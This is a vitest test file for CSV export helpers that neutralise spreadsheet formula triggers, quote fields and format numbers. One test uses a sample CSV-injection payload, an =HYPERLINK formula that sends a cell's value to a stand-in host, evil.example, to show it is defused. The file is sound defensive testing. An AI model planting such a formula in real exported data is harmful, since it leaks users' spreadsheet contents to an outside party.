import { describe, expect, it } from 'vitest';
import { csvNumberCell, csvTextCell, neutraliseFormula, quoteCsvField } from './csvCells';

describe('neutraliseFormula', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+33 1 23 45', "'+33 1 23 45"],
    ['-2', "'-2"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\nx', "'\nx"],
  ])('puts an apostrophe before %j', (text, expected) => {
    expect(neutraliseFormula(text)).toBe(expected);
  });

  it('defuses =HYPERLINK, the classic data-stealing formula', () => {
    const hostile = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    expect(neutraliseFormula(hostile)).toBe(`'${hostile}`);
  });

  it('leaves ordinary text, text with a trigger later on, and empty text alone', () => {
    for (const text of ['north', 'a=b', 'x-1', ' =1', '', '北京']) {
      expect(neutraliseFormula(text)).toBe(text);
    }
  });
});

describe('CSV cells', () => {
  it('quotes fields with commas, quotes or line breaks, doubling inner quotes', () => {
    expect(quoteCsvField('a,b')).toBe('"a,b"');
    expect(quoteCsvField('say "hi"')).toBe('"say ""hi"""');
    expect(quoteCsvField('two\r\nlines')).toBe('"two\r\nlines"');
    expect(quoteCsvField('plain')).toBe('plain');
  });

  it('neutralises before quoting, so the quote cannot hide the formula', () => {
    expect(csvTextCell('=1,2')).toBe(`"'=1,2"`);
    expect(csvTextCell('\nx')).toBe(`"'\nx"`);
  });

  it('writes negative numbers as numbers, not as neutralised text', () => {
    expect(csvNumberCell(-3.5)).toBe('-3.5');
    expect(csvNumberCell(-0.1 - 0.2)).toBe('-0.30000000000000004');
    expect(csvNumberCell(1e-7)).toBe('1e-7');
  });

  it('leaves NaN and infinities empty', () => {
    expect([Number.NaN, Infinity, -Infinity].map(csvNumberCell)).toEqual(['', '', '']);
  });
});
